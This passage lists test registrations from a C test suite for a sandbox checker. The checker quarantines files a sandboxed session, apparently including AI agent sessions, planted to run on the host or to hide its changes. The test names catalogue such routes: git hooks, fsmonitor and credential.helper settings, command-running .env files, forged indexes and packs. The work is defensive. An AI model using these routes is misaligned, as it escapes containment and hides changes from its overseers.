	test_add(s, "lazygit's and Jujutsu's repository configs", test_tool_configs_in_repo);
	test_add(s, "modules Python's prompt imports from the directory it starts in", test_python_prompt_modules);
	test_add(s, "modules named like tools or installed packages, where a host Python starts", test_python_tool_modules);
	test_add(s, "a kept config's hooksPath or include swapped for a staged one (rename, link)",
		 test_kept_config_target_swapped);
	test_add(s, "a linked worktree's hooks, includes inside includes, a common directory without HEAD, .hg/sharedpath",
		 test_worktree_and_nested_includes);
	test_add(s, "two sessions whose writable trees overlap: the second is refused", test_overlapping_sessions);
	test_add(s, "a session killed before its check (kill -9): the next one on the tree checks what changed since "
		 "it started",
		 test_killed_session);
	test_add(s, "a killed session's tree moved on the host is checked there; one made anew at its path is not",
		 test_killed_session_moved_tree);
	test_add(s, "round 41: a killed session's tree moved below another session's tree is checked by that session",
		 test_killed_session_moved_below);
	test_add(s, "direnv's layout directory: a nix-direnv cache or a layout's bin/ the session wrote is moved aside",
		 test_direnv_layout);
	test_add(s, "devenv's state directory and local overrides, at the top and nested", test_devenv_state);
	test_add(s, "round 42: RVM's and the autoenvs' cd files, at the top and nested", test_cd_hook_files);
	test_add(s, "round 45: gitlint's, git-lfs's and git-review's configs at the top and nested",
		 test_git_companion_configs);
	test_add(s, "round 45: FIFOs made in the work tree (.gitignore, .editorconfig): moved aside; a socket stays "
		    "(round 46)",
		 test_work_tree_fifos);
	test_add(s, "review of round 45: links made in the work tree to endless devices (/dev/zero, /dev/tty): moved aside",
		 test_work_tree_device_links);
	test_add(s, "a hook and a settings file written through hard links: moved aside", test_hard_links);
	test_add(s, "more hook managers' configs (CaptainHook, GrumPHP, rusty-hook, hk, trunk), at the top and nested",
		 test_more_hook_managers);
	test_add(s, "existing version files at the top: one line names them read-only and why before the command",
		 test_existing_rows_notice);
	test_add(s, "a branch or stash set in the session that brings settings files: its line names them",
		 test_refs_bring_settings);
	test_add(s, "a tag or remote-tracking ref set in the session that brings settings files, and refs past the bound",
		 test_tags_remotes_bring_settings);
	test_add(s, "round 39: ORIG_HEAD or FETCH_HEAD set in the session that brings settings files: named",
		 test_pseudo_refs_bring_settings);
	test_add(s, "round 40: branches and tags named like quarantine copies, set in the session: named",
		 test_copy_named_refs);
	test_add(s, "round 40: HEAD moved off its branch onto a commit bringing settings files: named",
		 test_head_moved_brings);
	test_add(s, "round 40 review: a linked worktree's HEAD moved from the main work tree onto a commit bringing "
		    "settings files: named",
		 test_linked_worktree_head_brings);
	test_add(s, "round 40: settings files staged in the session, missing from the work tree: named",
		 test_index_stages_settings);
	test_add(s, "round 41: settings files staged in a linked worktree's index, below a link, or with other content: named",
		 test_index_stages_settings_elsewhere);
	test_add(s, "review of round 41: a settings entry staged with other content and pre-session times, an index "
		    "that does not parse beside no work tree: named or moved; the user's own staged change: no line",
		 test_index_stages_settings_forged);
	test_add(s, "round 41: fsmonitor, sshCommand, diff.external, credential.helper, filter process in config.worktree, "
		    "include.path, includeIf onbranch/gitdir files inside the tree: none runs on the host",
		 test_program_settings_any_file);
	test_add(s, "the check's git on refs the session set fetches nothing (a promisor remote, ext::, kept or included)",
		 test_check_git_fetches_nothing);
	test_add(s, "a hooks directory swapped for one shaped like a git directory; a nested include beside a link",
		 test_swapped_shapes_and_include_base);
	test_add(s, "a hooksPath in config.worktree; a common directory whose objects is a link",
		 test_worktree_config_and_linked_objects);
	test_add(s, "a config the command wrote, reached through its own .git file, moves nothing of the user's",
		 test_planted_config_moves_nothing);
	test_add(s, "a settings file with a name too long for the suffix is moved aside all the same",
		 test_long_name_quarantined);
	test_add(s, "a .git file pointing nowhere is moved aside; one pointing at the work tree's .git activates nothing",
		 test_dotgit_pointers);
	test_add(s, "init.templateDir of the global config, $XDG_CONFIG_HOME/git", test_global_templates);
	test_add(s, "nested *.code-workspace, hook managers, .envrc, more MCP configs", test_nested_settings_more);
	test_add(s, "nested debugger, REPL and editor start-up files, .hg/hgrc, mise's names",
		 test_nested_startup_files);
	test_add(s, "round 36: version files, REPL start-up, Sapling, IDE project files and Copilot agents under their other names",
		 test_round36_rows);
	test_add(s, "round 36 (f1): a .env the session wrote that steers the agents loading it is moved aside; an application's stays",
		 test_round36_dotenv);
	test_add(s, "round 36: a .env a shell sourcing it would run a command from is moved aside",
		 test_round36_dotenv_shell);
	test_add(s, "round 37: a .env setting LD, AR, PKG_CONFIG, HOSTCC, CPPFLAGS, CGO_LDFLAGS, YACC is moved aside; "
		    "LDAP_URL, ASSET_DIR stay",
		 test_round37_dotenv_build);
	test_add(s, "review of round 37: a .env setting MAKEFLAGS, SUDO_EDITOR, RSYNC_RSH, PS1, GTK_MODULES, "
		    "QT_PLUGIN_PATH, ... is moved aside; PSQL_URL, GTK_THEME stay", test_review37_dotenv_names);
	test_add(s, "round 38: a .env setting CUDACXX, R_PROFILE, JULIA_DEPOT_PATH, CC_<target>, TARGET_CFLAGS (the "
		    "one list `run` reads) is moved aside; CC_EMAIL stays", test_round38_dotenv_one_list);
	test_add(s, "review of round 36: a .env line after U+2028, .env.NODE_ENV.local, build and runtime variables",
		 test_round36_dotenv_more);
	test_add(s, "review of round 36: a .gitignore and a venv in a directory made to look like a git directory",
		 test_fake_gitdir_skips);
	test_add(s, "config.worktree, include, ! alias, filter driver", test_config_variants);
	test_add(s, "bare repository; a repository older than the session", test_bare_and_old_repo);
	test_add(s, "review of round 45: a quarantine line below a 2,000-byte path still names the setting and where it went",
		 test_long_path_line);
	test_add(s, "review of round 45: names beside a new .gitignore too long for the list end it in \", ...\"",
		 test_hidden_names_cut);
	test_add(s, "a stopped rebase given an exec line", test_rebase_exec);
	test_add(s, "a stopped rebase's and cherry-pick's directories as symbolic links", test_rebase_link);
	test_add(s, "compiled Python files written in the session are removed (a forged one ran)", test_pyc_forged);
	test_add(s, "a hook linked to a script the session rewrote is moved aside once", test_hook_link_target);
	test_add(s, "a program as the merge strategy of a stopped rebase, cherry-pick", test_merge_strategy);
	test_add(s, "the check's files as FIFOs (sequencer/opts, a link to one): moved aside, the run ends", test_check_fifo);
	test_add(s, "links out of the writable trees (dotfiles, /etc, elsewhere) move aside; interpreters stay", test_links_out);
	test_add(s, "worktrees/NAME/commondir repointed", test_worktree_commondir);
	test_add(s, ".git file, .git symlink, gitdir: out of the trees", test_gitdir_pointers);
	test_add(s, "repository in another allowWrite tree", test_other_tree);
	test_add(s, "a repository 100 directories deep", test_deep_repo);
	test_add(s, "a git planted on PATH is not run by the check", test_planted_git_binary);
	test_add(s, "old hooks renamed into place with their directory", test_renamed_dir);
	test_add(s, "mount plan: control files not writable, nothing left", test_mount_plan);
	test_add(s, "legitimate session: nothing moved", test_legit_session);
	test_add(s, "placeholders of the work tree: not in the session's git status, not committed by git add -A",
		 test_placeholders_not_committed);
	test_add(s, "placeholders in a repository without info/exclude: its info/ shows one in the session",
		 test_placeholders_no_exclude);
	test_add(s, "placeholders in a repository without info/: shown on a placeholder info/ in the session",
		 test_placeholders_no_info);
	test_add(s, "placeholders of other writable trees (a repository, a linked worktree): not committed",
		 test_placeholders_other_trees);
	test_add(s, "placeholders staged with git add -f: named after the run", test_placeholders_forced);
	test_add(s, "placeholders in Mercurial work trees: not in hg status, not committed by hg commit -A",
		 test_placeholders_hg);
	test_add(s, "an index.lock left in the session: no rewrite, the index moves aside", test_index_lock_held);
	test_add(s, "--keep-git-config keeps and reports", test_keep_flag);
	test_add(s, "nested editor and agent settings moved aside; unchanged ones stay", test_nested_settings);
	test_add(s, "a name only containing the quarantine suffix, or of its shape but new, is checked",
		 test_quarantine_suffix_inside);
	test_add(s, "nested settings: symlinked .claude, deep rows, .gitmodules, renamed in",
		 test_nested_settings_variants);
	test_add(s, "--keep-git-config keeps nested settings and reports", test_nested_settings_keep);
	test_add(s, "every quarantine name taken in advance", test_quarantine_names_taken);
	test_add(s, "a move aside that fails: mode 000 and a status that is not 0", test_quarantine_fails_closed);
	test_add(s, "as another user: a git directory chmod 555, a parent chmod 000", test_unprivileged_modes);
	test_add(s, "as another user: a core.hooksPath directory, a package where Python starts, made 0100 "
		    "after planting",
		 test_unreadable_hooks_path);
	test_add(s, "as another user: rebase-merge 0300 with an exec todo, info 0100 with attributes, an include's "
		    "directory 0100 with core.fsmonitor",
		 test_unreadable_control_dirs);
	test_add(s, "a command that fills memory: the OOM killer takes the sandbox, the checks run",
		 test_oom_takes_sandbox);
	test_add(s, "a command that suspends the shared terminal's output (TCOOFF, IXON and ISIG off): the run ends, "
		    "the file is moved, the terminal is as before", test_tty_output_suspended);
	test_add(s, "a lease on a kept config while the check runs: reported as not read, a status that is not 0",
		 test_lease_on_kept_config);
	test_add(s, "replace refs (loose, packed), info/grafts, alternates written in the session", test_replace_refs);
	test_add(s, "HEAD and a rebase's head-name holding escape sequences", test_head_controls);
	test_add(s, "skip-worktree and assume-unchanged hiding changed files: the index moves aside",
		 test_index_hides_changes);
	test_add(s, "a split index written in the session (its bits in the shared index): moves aside",
		 test_index_split_hides);
	test_add(s, "an index entry given back the old object with the edited file's times: named",
		 test_index_forged_times);
	test_add(s, "a forged commit-graph, a multi-pack-index and a bitmap written in the session move aside",
		 test_forged_commit_graph);
	test_add(s, "a packed tag's peeled line rewritten in the session: named; refs packed: nothing",
		 test_refs_peeled);
	test_add(s, "refs moved in the session (a remote-tracking ref, tags, notes, a branch): named",
		 test_refs_moved);
	test_add(s, "notes holding escape sequences added in the session: moved aside (loose), named (packed)",
		 test_notes_controls);
	test_add(s, ".git/shallow written in the session: named", test_shallow_written);
	test_add(s, "loose objects rewritten in the session (SHA-1, SHA-256): moved aside, new ones kept",
		 test_object_rewritten);
	test_add(s, "a new pack whose index claims an existing object: moved aside; a repack says nothing",
		 test_pack_shadows_object);
	test_add(s, "a forged pack named .pack-x (or with an empty base): moved aside", test_pack_dot_named);
	test_add(s, "a sparse 1 GiB pack with an empty index before a forged pack: both moved aside",
		 test_pack_bound_junk);
	test_add(s, "a loose object inflating to 1 GiB before a rewritten one: both moved aside",
		 test_loose_bound_bomb);
	test_add(s, "objects past the bound (lowered for the test): moved aside, not only named",
		 test_object_bound_fails_closed);
	test_add(s, "an untracked cache and fsmonitor data in an index written in the session: dropped",
		 test_index_untracked_fsmonitor);
	test_add(s, "extensions.refStorage set in the session: the config moves aside", test_ref_storage);
	test_add(s, "a sparse index's directory entry over an edited file: the index moves aside",
		 test_index_sparse_dir);
	test_add(s, "an entry forged with ctime ns 0, a repointed tracked link: the index rewritten shows both",
		 test_index_forged_nsec_and_link);
	test_add(s, "the untracked cache hiding a new file: dropped, the file shows", test_index_untracked_cache);
	test_add(s, "a forged cache-tree hiding a staged edit: dropped, the edit shows", test_index_cache_tree);
	test_add(s, "a forged index with a checksum that does not match: moved aside", test_index_bad_checksum);
	test_add(s, "a conflict resolved in the session: the rewritten index keeps its resolve-undo record",
		 test_index_resolve_undo);
	test_add(s, "a linked worktree's gitdir file edited: its index with a skip-worktree bit moves aside",
		 test_index_worktree_gitdir_text);
	test_add(s, "an ordinary session's index (add, commit, status) works on the host", test_index_normal_session);
	test_add(s, "a Mercurial dirstate forged with an edited file's size and time: hg shows the edit",
		 test_hg_dirstate_forged);
	test_add(s, "info/exclude given rules in the session", test_exclude_rules);
	test_add(s, "a self-ignoring .gitignore, a venv's activate, .pth, module and bin/ programs written in the session",
		 test_ignored_writes);
	test_add(s, "a Python environment's site-packages or lib/ behind a link, past 50,000 entries, conda's and a "
		    "bare prefix: what the session wrote is named",
		 test_env_walk_gaps);
	test_add(s, "a tracked file or package removed in the session under skip-worktree, assume-unchanged or a "
		    "sparse directory entry: the index moves aside; a sparse checkout's own stays",
		 test_index_hides_deletion);
	test_add(s, "a self-ignoring cache directory, a package with a staged extension module, a venv's "
		    "site-packages renamed into place: named, moved aside",
		 test_dir_renamed_into_place);
	test_add(s, "Mercurial's .hg/hgrc-not-shared: not writable at the top, moved aside in a nested repository",
		 test_hg_config_not_shared);
	test_add(s, "Mercurial's branch and bookmarks holding escape sequences: moved aside", test_hg_prompt_controls);
	test_add(s, "a .hgignore written in the session: named with the files it may hide", test_hgignore_written);
	test_add(s, "files a kept .hg/hgrc includes, written in the session: moved aside", test_hg_include_written);
}
